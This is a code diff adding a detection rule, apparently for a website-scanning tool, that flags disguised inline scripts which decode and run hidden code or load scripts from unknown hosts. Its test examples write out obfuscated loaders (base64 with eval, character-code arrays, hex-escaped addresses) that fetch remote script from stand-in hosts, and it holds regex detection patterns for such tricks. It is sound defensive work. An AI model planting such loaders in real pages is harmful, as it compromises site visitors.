@@ -1,0 +1,236 @@
+import { adNetworkOf, analyticsOf, consentVendorOf } from '../../facts/ad-hosts.ts';
+import { siteOf } from '../../facts/page-address.ts';
+import { type CodePiece, codePieces, valuesOf } from '../../facts/script-flow.ts';
+import type { ScriptAct } from '../../facts/script-structure.ts';
+import { NUMBER, SIGN, STRING, TEMPLATE } from '../../facts/script-tokens.ts';
+import { foreignTarget } from '../../grounds/foreign-target.ts';
+import type { Page } from '../../page/page.ts';
+import { examplePage, paragraphs } from '../example.ts';
+import type { Quote } from '../quote.ts';
+import { quoteAct } from '../quote-script.ts';
+import { abstain, CLEAR, rule } from '../rule.ts';
+import { BICYCLE, BREAD, CHLEB, LIBRARY } from '../sample-prose.ts';
+import type { Texts } from '../texts.ts';
+import { number } from '../wording.ts';
+
+/** Characters of encoded material that nothing but a hidden program needs. */
+const LARGE = 2000;
+const SMALL = 160;
+/** Shorter strings are keys, hashes and tracking numbers. */
+const MIN_LITERAL = 120;
+const MIN_CODES = 40;
+
+const HIDDEN_LOADER = 0.95;
+const HIDDEN_LARGE = 0.85;
+const HIDDEN_SMALL = 0.65;
+const RENAMED = 0.7;
+
+const DECODES =
+  /\batob\b|\bunescape\b|fromCharCode|decodeURIComponent|parseInt\([^()]{1,60},\s*(?:16|36|0x10)\)|charCodeAt/;
+const RENAMED_NAMES = /\b_0x[0-9a-f]{3,8}\b/g;
+const LOADS = /<\s*(script|iframe)\b[^>]{0,300}?\bsrc\s*=\s*\\?['"]?([^'"\s>\\]{4,300})/i;
+
+interface Sign {
+  readonly score: number;
+  readonly says: Texts;
+  readonly quote: Quote | undefined;
+}
+
+const EXAMPLE_LOADER =
+  "(function(){var s=document.createElement('script');s.src='https://cdn-stats-x.top/l.js?d='+location.host;document.head.appendChild(s)})()";
+
+export default rule({
+  id: 'sp_obfuscated_loader',
+  mode: 'spam',
+  policy: 'hacked_content',
+  kind: 'violation',
+  layer: 'scripts',
+  version: 1,
+  title: {
+    en: 'A disguised script hides what it loads',
+    pl: 'Zamaskowany skrypt ukrywa, co wczytuje',
+  },
+  fix: {
+    en: 'Find out where the script comes from, remove it, and close the hole through which it came in (outdated plugins, stolen passwords).',
+    pl: 'Ustal, skąd wziął się skrypt, usuń go i zamknij lukę, przez którą się dostał (nieaktualne wtyczki, skradzione hasła).',
+  },
+  question:
+    'Is there a heavily disguised inline script that runs hidden code or loads files from an unknown host?',
+  sources: ['SP', 'UG'],
+  judges: ['code'],
+  languages: 'any',
+  needs: { url: true },
+  basis: 'measured',
+  scoring:
+    'Hidden code that loads a script or frame from an unknown host, or redirects there: 0.95; code that is decoded and run from at least 2,000 encoded characters: 0.85, from 160: 0.65; a script with renamed names throughout that writes scripts or frames: 0.7. Known advertising, counting and consent services do not count.',
+  detect(page) {
+    // A robot check is nothing but such a script, and not the page's own.
+    if (page.flags.challenge) return abstain('not_applicable');
+    const signs = codePieces(page)
+      .flatMap((piece) => signsOf(page, piece))
+      .sort((a, b) => b.score - a.score);
+    const worst = signs[0];
+    if (!worst) return CLEAR;
+    return {
+      score: worst.score,
+      quotes: signs.slice(0, 3).map((sign) => sign.quote),
+      facts: [...new Map(signs.map((sign) => [sign.says.en, sign.says])).values()].slice(0, 3),
+    };
+  },
+  examples: () => ({
+    hit: [
+      examplePage('a loader in base64', {
+        title: 'How to bake rye bread',
+        body: `${paragraphs(...BREAD)}<script>eval(atob("${btoa(EXAMPLE_LOADER)}"));</script>`,
+      }),
+      examplePage('a loader as character codes', {
+        title: 'Chleb żytni',
+        lang: 'pl',
+        body: `${paragraphs(...CHLEB)}<script>var c=[${[...EXAMPLE_LOADER].map((sign) => sign.charCodeAt(0)).join(',')}];var r="";for(var i=0;i<c.length;i++){r+=String.fromCharCode(c[i]);}(new Function(r))();</script>`,
+      }),
+      examplePage('an address in hex behind a script element', {
+        title: 'Library stays open',
+        body: `${paragraphs(...LIBRARY)}<script>var d=document,e=d.createElement("script");e.src="${[...'https://track-js-cdn.top/a.js'].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('')}";d.head.appendChild(e);</script>`,
+      }),
+    ],
+    clear: [
+      examplePage('a counter written with escaped brackets', {
+        title: 'Skipping chains',
+        body: `${paragraphs(...BICYCLE)}<script>
+          var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
+          document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
+      }),
+      examplePage('an e-mail address hidden from harvesters', {
+        title: 'Chleb żytni',
+        lang: 'pl',
+        body: `${paragraphs(...CHLEB)}<script>document.write(unescape('%3c%61%20%68%72%65%66%3d%22%6d%61%69%6c%74%6f%3a%69%6e%66%6f%40%70%69%65%6b%61%72%6e%69%61%2e%70%6c%22%3e%6e%61%70%69%73%7a%3c%2f%61%3e'));</script>`,
+      }),
+      examplePage('state of the application in base64', {
+        title: 'Library stays open',
+        body: `${paragraphs(...LIBRARY)}<script>window.__STATE__ = JSON.parse(atob("${btoa(JSON.stringify({ list: LIBRARY.map((text) => text.replace(/[^ -~]/g, '')) }))}"));</script>`,
+      }),
+    ],
+  }),
+});
+
+function signsOf(page: Page, piece: CodePiece): Sign[] {
+  if (piece.script.attribute !== '' && !piece.outer) return [];
+  const signs: Sign[] = [];
+  const hidden = piece.outer !== undefined && piece.tricks > 0;
+  for (const load of loadsOf(page, piece)) {
+    if (!hidden && load.tricks === 0) continue;
+    signs.push({
+      score: HIDDEN_LOADER,
+      says: {
+        en: `A disguised script loads a file from ${load.site}.`,
+        pl: `Zamaskowany skrypt wczytuje plik z ${load.site}.`,
+      },
+      quote: quoteAct(page, piece, load.act),
+    });
+  }
+  if (hidden || piece.outer) return signs;
+  const runner = piece.structure.calls.find((act) => act.name === 'eval' || act.name === 'Function');
+  const { code } = piece.tokens;
+  if (runner && DECODES.test(code)) {
+    const encoded = encodedChars(piece);
+    if (encoded >= SMALL)
+      signs.push({
+        score: encoded >= LARGE ? HIDDEN_LARGE : HIDDEN_SMALL,
+        says: {
+          en: `A script decodes ${number.en(encoded)} characters and runs them as code.`,
+          pl: `Skrypt dekoduje ${number.pl(encoded)} znaków i uruchamia je jako kod.`,
+        },
+        quote: quoteAct(page, piece, runner),
+      });
+  }
+  const renamed = new Set(code.slice(0, 60_000).match(RENAMED_NAMES) ?? []);
+  const maker = piece.structure.calls.find(
+    (act) => act.name === 'createElement' || act.name === 'eval' || act.name === 'Function',
+  );
+  if (renamed.size >= 15 && (maker || /createElement|iframe|\\x73\\x63\\x72\\x69\\x70\\x74/.test(code)))
+    signs.push({
+      score: RENAMED,
+      says: {
+        en: `A script is disguised throughout: ${number.en(renamed.size)} of its names are meaningless numbers.`,
+        pl: `Skrypt jest w całości zamaskowany: ${number.pl(renamed.size)} jego nazw to liczby bez znaczenia.`,
+      },
+      quote: maker ? quoteAct(page, piece, maker) : undefined,
+    });
+  return signs;
+}
+
+interface Load {
+  readonly act: ScriptAct;
+  readonly site: string;
+  readonly tricks: number;
+}
+
+/** Scripts and frames that a piece of code puts into the page from hosts that are not known for anything. */
+function loadsOf(page: Page, piece: CodePiece): Load[] {
+  const loads: Load[] = [];
+  const { structure } = piece;
+  const makes = structure.calls.some((act) => act.name === 'createElement');
+  for (const act of [...structure.writes, ...structure.calls]) {
+    const write = act.name === 'write' || act.name === 'writeln' || act.name === 'insertAdjacentHTML';
+    const isSource = (act.name === 'src' && makes) || write || act.name === 'innerHTML';
+    if (!isSource && !(act.name === 'setAttribute' && act.value === 'src')) continue;
+    for (const value of valuesOf(page, piece, act.after + 1).slice(0, 2)) {
+      // Only what is truly hidden counts: "%3Cscript" around a plain address hides nothing.
+      const tricks = isMostlyPlain(piece, act) ? 0 : value.tricks;
+      const address = act.name === 'src' ? value.text : (LOADS.exec(value.text)?.[2] ?? '');
+      const site = unknownSite(page, address);
+      if (site !== undefined) loads.push({ act, site, tricks: tricks + piece.tricks });
+    }
+  }
+  return loads;
+}
+
+function isMostlyPlain(piece: CodePiece, act: ScriptAct): boolean {
+  const close = piece.shape.partner[act.after] ?? -1;
+  const end = close > act.after ? (piece.tokens.end[close] ?? act.end) : act.end + 400;
+  const code = piece.tokens.code.slice(act.start, end);
+  return (
+    /https?:\/\/|\/\/[a-z0-9-]+\.[a-z]/i.test(code) ||
+    (/%3C/i.test(code) && /[a-z]{5,}\.[a-z]{2,}/i.test(code))
+  );
+}
+
+function unknownSite(page: Page, address: string): string | undefined {
+  const target = foreignTarget(page, address);
+  if (!target) return undefined;
+  const site = siteOf(target.host);
+  const known =
+    adNetworkOf(target.host, site) ?? analyticsOf(target.host, site) ?? consentVendorOf(target.host, site);
+  return known === undefined ? site : undefined;
+}
+
+/** Base64, hexadecimal, percent signs and lists of character codes. */
+function encodedChars(piece: CodePiece): number {
+  const { tokens } = piece;
+  let sum = 0;
+  let codes = 0;
+  for (let i = 0; i < tokens.count; i++) {
+    const kind = tokens.kind[i];
+    if (kind === STRING || kind === TEMPLATE) {
+      const length = (tokens.end[i] ?? 0) - (tokens.start[i] ?? 0);
+      if (
+        length >= MIN_LITERAL &&
+        looksEncoded(tokens.code.slice((tokens.start[i] ?? 0) + 1, (tokens.end[i] ?? 0) - 1))
+      )
+        sum += length;
+    }
+    if (kind === NUMBER) codes++;
+    else if (kind !== SIGN || tokens.value[i] !== 44) {
+      if (codes >= MIN_CODES) sum += codes * 4;
+      codes = 0;
+    }
+  }
+  return sum;
+}
+
+function looksEncoded(text: string): boolean {
+  const part = text.slice(0, 4000);
+  if (/^[A-Za-z0-9+/=\s]+$/.test(part)) return !part.trim().includes(' ') && /[0-9]/.test(part);
+  const escapes = part.match(/%[0-9a-f]{2}|\\x[0-9a-f]{2}|\\u[0-9a-f]{4}/gi)?.length ?? 0;
+  return escapes * 3 > part.length / 2;
+}
